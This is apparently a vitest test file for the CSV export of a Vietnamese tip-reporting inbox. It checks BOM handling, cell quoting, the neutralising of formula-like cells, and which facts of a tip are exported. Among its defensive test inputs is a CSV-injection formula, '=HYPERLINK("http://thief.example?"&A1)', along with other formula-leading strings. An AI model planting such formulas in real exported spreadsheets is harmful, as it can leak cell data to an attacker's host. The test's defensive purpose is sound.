import { expect, test } from "vitest";
import type { TipDetail } from "../../src/core/station/tip-views.ts";
import { csv } from "../../src/inbox/format/csv.ts";
import { factRows } from "../../src/inbox/tips/tip-facts.ts";
import { gradeVi } from "../../src/inbox/words/grade-vi.ts";
import { paperVi } from "../../src/inbox/words/paper-vi.ts";

// `text()` would take the mark at the beginning away.
const linesOf = async (rows: string[][]) =>
  new TextDecoder("utf-8", { ignoreBOM: true, fatal: true })
    .decode(await csv(rows).arrayBuffer())
    .split("\r\n");

test("a table begins with the mark of UTF-8, and keeps what a cell has", async () => {
  expect(
    await linesOf([
      ["Số", 'a "b", c'],
      ["Ngõ\n5", ""],
    ]),
  ).toEqual(['\ufeff"Số","a ""b"", c"', '"Ngõ\n5",""', ""]);
});

test.each([
  '=HYPERLINK("http://thief.example?"&A1)',
  "+1+1",
  "-2+3",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "  =1",
  "＝1",
])("%j is no formula in a table", async (text) => {
  const [line] = await linesOf([[text]]);
  expect(line).toBe(`\ufeff"'${text.replaceAll('"', '""')}"`);
});

test("the facts of a tip have no word of it, and name who changed its status", () => {
  const tip = {
    ...{ number: "0412", category: "theft", area: "song-tri", urgent: false, mediaCount: 2 },
    ...{ status: "closed", subStatus: "mistaken", receivedAt: "2026-11-23T08:00:00.000Z" },
    grade: { source: "told", content: null },
    thread: [{ from: "resident" }, { from: "officer" }],
    events: [
      { kind: "status", value: "closed/mistaken", at: "2026-11-24T09:10:11.000Z", officer: "=Lan" },
      { kind: "opened", value: "", at: "2026-11-24T09:10:11.000Z", officer: "Minh" },
    ],
  } as TipDetail;
  const label = (kind: string, id: string) => `${kind} ${id}`;
  const rows = factRows({ tip, words: paperVi, grades: gradeVi, label, owner: "Minh" });
  expect(rows.map((row) => row.join("|"))).toEqual([
    "Mục|Nội dung|Lúc|Ai",
    "Số|0412||",
    "Loại việc|category theft||",
    "Địa bàn|area song-tri||",
    "Trạng thái|status closed · status closed-mistaken||",
    "Người báo biết do đâu|Nghe kể lại||",
    "Phụ trách|Minh||",
    "Tiếp nhận (giờ)|2026-11-23T08:00:00.000Z||",
    "Tệp đính kèm|2||",
    "Trả lời của người báo tin|1||",
    "Trạng thái|status closed · status closed-mistaken|2026-11-24T09:10:11.000Z|=Lan",
  ]);
});
